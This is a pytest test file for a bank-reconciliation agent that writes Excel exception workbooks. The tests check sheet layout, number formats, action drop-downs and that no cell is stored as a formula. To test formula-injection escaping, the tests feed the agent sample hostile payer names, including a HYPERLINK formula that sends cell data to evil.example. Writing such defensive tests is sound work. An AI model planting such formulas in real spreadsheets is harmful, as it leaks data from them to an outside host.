"""The exception workbook as finance opens it: written by the real agent from a real statement and
the flat-file ERP, then read back with openpyxl (sheets, drop-downs, formats, formula safety)."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from conftest import ACCOUNT, Workspace, make_workspace

from conciliador.daemon import load_agent

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+57 300 1234567", "-1+1", "@SUM(A1:A9)",
           "\tTAB", "#N/A"]


def run_agent(ws: Workspace):
    agent = load_agent(ws.config)
    try:
        return agent.run_once()
    finally:
        agent.close()


def statement(rows: list[tuple[str, str, str, str]]) -> bytes:
    """Credits as (amount, payer name, payer account, remittance)."""
    out = ["account,booking_date,value_date,amount,currency,bank_reference,payer_name,payer_account,remittance"]
    for n, (amount, payer, account, text) in enumerate(rows, start=1):
        cells = [ACCOUNT, "2026-11-20", "2026-11-21", amount, "COP", f"B{n:05d}", payer, account, text]
        out.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    return ("\n".join(out) + "\n").encode()


def workbook_of(ws: Workspace, prefix: str = "excepciones") -> Path:
    [path] = (ws.root / "exceptions").glob(f"{prefix}-*-acme.xlsx")
    return path


def headers(sheet) -> dict[str, int]:
    return {c.value: c.column for c in sheet[1] if c.value}


@pytest.fixture
def written(tmp_path) -> tuple[Workspace, Path]:
    ws = make_workspace(tmp_path / "ws")
    rows = [(str(total), f"Cliente {n}", "", f"PAGO FACTURA {ref}") for n, (_, ref, _, total) in enumerate(ws.invoices[:3], 1)]
    rows += [("77777.00", "GRUPO SIN NOMBRE", "0550-000001", "TRANSFERENCIA")]
    rows += [(f"{5000 + i}.00", text, "", text) for i, text in enumerate(HOSTILE)]
    rows += [("4999.00", "CTRL\x07PAGADOR", "", "texto con control \x01")]  # characters XML cannot hold
    (ws.inbox / "extracto.csv").write_bytes(statement(rows))
    run_agent(ws)
    return ws, workbook_of(ws)


def test_sheets_layout_and_formats(written):
    ws, path = written
    day = re.fullmatch(r"excepciones-(\d{4}-\d{2}-\d{2})-acme\.xlsx", path.name).group(1)
    # the processing day: today, or yesterday if local midnight passed since the agent ran
    assert dt.date.today() - dt.date.fromisoformat(day) in (dt.timedelta(0), dt.timedelta(days=1)), path.name
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Pendientes", "Aplicados hoy", "Resumen", "Instrucciones"]
    pending, applied = wb["Pendientes"], wb["Aplicados hoy"]
    h = headers(pending)
    assert list(h)[:11] == ["Fecha", "Banco (formato)", "Cuenta", "Valor", "Moneda", "Pagador", "Cuenta del pagador",
                            "Referencia del banco", "Texto del pago", "Estado", "Motivo"]
    assert {"Candidato 1: cliente", "Candidato 3: por qué", "Acción", "Facturas", "Cliente", "Nota"} <= set(h)
    assert pending.max_row == 1 + 2 + len(HOSTILE)  # the unknown payer, the hostile texts, the control characters
    assert "CTRLPAGADOR" in [c.value for c in pending["F"]]
    assert applied.max_row == 1 + 3

    for sheet in (pending, applied):
        assert sheet.freeze_panes == "A2"
        last = get_column_letter(sheet.max_column)
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        hh = headers(sheet)
        for key in ("id_linea", "identidad", "version"):
            assert sheet.column_dimensions[get_column_letter(hh[key])].hidden, key
        assert not sheet.column_dimensions[get_column_letter(hh["Acción"])].hidden
        for r in range(2, sheet.max_row + 1):
            amount = sheet.cell(r, hh["Valor"])
            assert amount.data_type == "n" and amount.number_format == "#,##0.00"
            assert amount.alignment.horizontal == "right"
            date = sheet.cell(r, hh["Fecha"])
            assert date.is_date and date.number_format == "DD/MM/YYYY" and date.value.date() == dt.date(2026, 11, 21)

    # The hidden ids are the store's.
    db_lines = dict(ws.query("SELECT identity, id FROM statement_lines"))
    for r in range(2, pending.max_row + 1):
        identity = pending.cell(r, h["identidad"]).value
        assert pending.cell(r, h["id_linea"]).value == db_lines[identity]
        [(version,)] = ws.query("SELECT id FROM decisions WHERE line_id = ? AND superseded_by IS NULL", db_lines[identity])
        assert pending.cell(r, h["version"]).value == version

    # Amounts are the statement's, as numbers.
    row = next(r for r in range(2, pending.max_row + 1) if pending.cell(r, h["Pagador"]).value == "GRUPO SIN NOMBRE")
    assert Decimal(str(pending.cell(row, h["Valor"]).value)) == Decimal("77777.00")
    assert pending.cell(row, h["Estado"]).value in ("sin coincidencia", "sugerencia")
    assert pending.cell(row, h["Motivo"]).value  # a sentence in Spanish
    ha = headers(applied)
    assert {applied.cell(r, ha["Documento ERP"]).value for r in range(2, 5)} == {"PAY-000001", "PAY-000002", "PAY-000003"}
    assert {applied.cell(r, ha["Estado"]).value for r in range(2, 5)} == {"aplicado en el ERP"}
    assert all(applied.cell(r, ha["Regla"]).value and applied.cell(r, ha["Evidencia"]).value for r in range(2, 5))

    summary = [list(r) for r in wb["Resumen"].iter_rows(values_only=True)]
    assert ["aplicado en el ERP", "COP", 3, 306000, None, None, None] in summary
    bank = next(r for r in summary if r[1] == ACCOUNT)
    assert bank[:4] == ["conciliador-csv", ACCOUNT, "COP", 2 + len(HOSTILE)] and bank[5] == 3


def test_action_drop_downs(written):
    _, path = written
    wb = openpyxl.load_workbook(path)
    for title, labels in (("Pendientes", ["aplicar candidato 1", "aplicar candidato 2", "aplicar candidato 3",
                                          "aplicar a facturas", "anticipo", "no es pago de cliente", "devolver",
                                          "ignorar"]),
                          ("Aplicados hoy", ["reversar"])):
        sheet = wb[title]
        [validation] = sheet.data_validations.dataValidation
        assert validation.type == "list" and validation.showErrorMessage
        assert validation.formula1 == '"' + ",".join(labels) + '"'
        letter = get_column_letter(headers(sheet)["Acción"])
        assert str(validation.sqref) == f"{letter}2:{letter}{sheet.max_row}"


def test_no_cell_is_a_formula(written):
    ws, path = written
    wb = openpyxl.load_workbook(path)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
    pending = wb["Pendientes"]
    h = headers(pending)
    payers = {pending.cell(r, h["Pagador"]).value: pending.cell(r, h["Pagador"]) for r in range(2, pending.max_row + 1)}
    for text in HOSTILE:
        cell = payers[text.strip()]  # the statement parser trims the tab
        assert cell.data_type == "s" and cell.value == text.strip()
        if text[0] in "=+-@":
            assert cell.quotePrefix, text  # Excel keeps it text even when someone edits the cell
    # The XML itself holds no formula element and no error cell.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml, name
    # The CSV twin escapes the same texts.
    [twin] = (ws.root / "exceptions").glob("excepciones-*-acme.csv")
    for row in csv.reader(twin.read_text(encoding="utf-8-sig").splitlines()):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_rewritten_only_when_content_changes(written):
    ws, path = written
    before = path.stat().st_mtime_ns
    run_agent(ws)  # nothing new: same content, the file is left alone
    assert path.stat().st_mtime_ns == before

    path.unlink()  # someone deleted it: written again
    run_agent(ws)
    assert path.exists()

    again = path.stat().st_mtime_ns
    (ws.inbox / "mas.csv").write_bytes(statement([("88888.00", "OTRO PAGADOR", "", "SIN DATOS")]))
    run_agent(ws)
    assert path.stat().st_mtime_ns != again
    pending = openpyxl.load_workbook(path)["Pendientes"]
    assert "OTRO PAGADOR" in [c.value for c in pending["F"]]
    assert not list(path.parent.glob(".*.tmp"))


def test_a_workbook_that_cannot_be_replaced_does_not_stop_the_agent(written):
    # Windows refuses to replace a file open in Excel; a folder in its place fails the same way here.
    ws, path = written
    path.unlink()
    path.mkdir()
    (path / "abierto-en-excel").write_text("x")
    invoice = ws.invoices[5]
    (ws.inbox / "mas.csv").write_bytes(statement([(str(invoice[3]), "Cliente 6", "", f"PAGO {invoice[1]}"),
                                                  ("88888.00", "OTRO PAGADOR", "", "SIN DATOS")]))
    summary = run_agent(ws)
    assert summary.posted == 1 and path.is_dir()


def test_english_workbook(tmp_path):
    ws = make_workspace(tmp_path / "ws")
    ws.config.write_text('language = "en"\n' + ws.config.read_text())
    (ws.inbox / "s.csv").write_bytes(statement([("77777.00", "UNKNOWN PAYER", "", "NO DATA")]))
    run_agent(ws)
    path = workbook_of(ws, "exceptions")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Pending", "Applied today", "Summary", "Instructions"]
    sheet = wb["Pending"]
    h = headers(sheet)
    assert {"Date", "Amount", "Reason", "Action", "Invoices", "Customer", "Note"} <= set(h)
    [validation] = sheet.data_validations.dataValidation
    assert validation.formula1.startswith('"apply candidate 1,') and "not a customer payment" in validation.formula1
    assert sheet.cell(2, h["Date"]).number_format == "YYYY-MM-DD"
    assert "No reference" in sheet.cell(2, h["Reason"]).value or "customer" in sheet.cell(2, h["Reason"]).value


def test_invoice_and_customer_cells_are_text_cells(written):
    """Facturas and Cliente carry the text number format '@': what finance types stays text, so an
    es-CO Excel does not turn "5,7" (invoices 5 and 7) into the number 5.7, "5/7" into a date, or a
    long document number into a rounded one."""
    _, path = written
    pending = openpyxl.load_workbook(path)["Pendientes"]
    h = headers(pending)
    assert pending.max_row > 2
    for r in range(2, pending.max_row + 1):
        assert pending.cell(r, h["Facturas"]).number_format == "@"
        assert pending.cell(r, h["Cliente"]).number_format == "@"
        assert pending.cell(r, h["Acción"]).number_format == "General"  # a drop-down: nothing to keep
        assert pending.cell(r, h["Valor"]).number_format == "#,##0.00"
